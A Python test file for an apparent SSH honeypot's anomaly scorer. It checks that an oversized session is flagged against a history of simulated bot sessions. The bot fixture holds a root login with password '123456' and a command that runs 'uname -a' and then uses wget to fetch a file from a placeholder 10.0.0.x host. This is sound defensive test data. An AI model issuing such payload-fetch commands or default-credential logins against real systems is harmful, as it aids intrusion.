"""The service's anomaly scorer fed real event objects: history from the index at start, then
live sessions; the outlier is a `session.anomaly`, the usual bot session is not."""

from __future__ import annotations

import asyncio
import json
import random
from pathlib import Path
from typing import Any

from sandtrap import events as ev
from sandtrap.analysis.scorer import AnomalyScorer
from sandtrap.config import AnalysisConfig
from sandtrap.events import Peer
from sandtrap.store.index import apply, connect


class Sink:
    def __init__(self) -> None:
        self.events: list[ev.Event] = []

    def emit(self, event: ev.Event) -> None:
        self.events.append(event)


def bot_session(peer: Peer, rng: random.Random) -> list[ev.Event]:
    return [
        ev.SessionConnect(peer=peer, dst_ip="127.0.0.1"),
        ev.AuthSuccess(peer=peer, username="root", method="password", password="123456"),
        ev.SessionExec(
            peer=peer, channel=0, input=f"uname -a; wget http://10.0.0.{rng.randrange(250)}/x"
        ),
        ev.SessionClosed(
            peer=peer,
            reason="closed",
            duration=rng.uniform(1, 5),
            bytes_in=rng.randint(100, 900),
            bytes_out=rng.randint(1000, 5000),
        ),
    ]


def big_session(peer: Peer) -> list[ev.Event]:
    events: list[ev.Event] = [ev.SessionConnect(peer=peer, dst_ip="127.0.0.1")]
    events += [
        ev.SessionShell(peer=peer, channel=n, term="xterm", width=80, height=24) for n in range(4)
    ]
    events += [
        ev.SessionCommand(peer=peer, channel=0, input=f"make -C /opt/x{n} all") for n in range(80)
    ]
    events += [
        ev.SandboxArtifact(
            peer=peer, container_id="c", path=f"/a{n}", size=1, sha256=f"{n:064x}", artifact="/x"
        )
        for n in range(20)
    ]
    events.append(
        ev.SessionClosed(
            peer=peer, reason="closed", duration=5000.0, bytes_in=9_000_000, bytes_out=70_000_000
        )
    )
    return events


async def test_history_from_index_then_live_outlier_flagged(tmp_path: Path) -> None:
    rng = random.Random(5)
    index = tmp_path / "sandtrap.db"
    db = connect(index)
    for n in range(120):
        peer = Peer(f"{n:012x}", "203.0.113.9", 40000 + n, 22)
        apply(db, [json.loads(ev.to_json_line(e, "s")) for e in bot_session(peer, rng)])
    db.commit()
    db.close()
    sink = Sink()
    config = AnalysisConfig(anomaly_min_history=100, anomaly_percentile=99.0)
    scorer = AnomalyScorer(config, sink, index)
    ready = asyncio.Event()
    task = asyncio.create_task(scorer.run(ready))
    try:
        await asyncio.wait_for(ready.wait(), 60)
        usual = Peer("aaaaaaaaaaaa", "203.0.113.10", 1, 22)
        strange = Peer("bbbbbbbbbbbb", "203.0.113.11", 2, 22)
        for event in bot_session(usual, rng) + big_session(strange):
            scorer.offer(event)
        async with asyncio.timeout(30):
            while scorer.scored < 2:
                await asyncio.sleep(0.05)
    finally:
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
    anomalies: list[Any] = [e for e in sink.events if isinstance(e, ev.SessionAnomaly)]
    assert [a.peer.session_id for a in anomalies] == ["bbbbbbbbbbbb"]
    (anomaly,) = anomalies
    assert anomaly.score > anomaly.threshold
    assert anomaly.history == 120
    assert anomaly.features["artifacts"] == 20
    assert anomaly.features["commands"] == 80
    record = ev.to_record(anomaly, "s")
    assert record["eventid"] == "session.anomaly" and "score" in record


async def test_too_little_history_scores_nothing(tmp_path: Path) -> None:
    sink = Sink()
    scorer = AnomalyScorer(AnalysisConfig(anomaly_min_history=100), sink, tmp_path / "none.db")
    task = asyncio.create_task(scorer.run())
    try:
        for event in big_session(Peer("cccccccccccc", "203.0.113.12", 3, 22)):
            scorer.offer(event)
        await asyncio.sleep(0.5)
    finally:
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)
    assert scorer.scored == 0 and sink.events == []
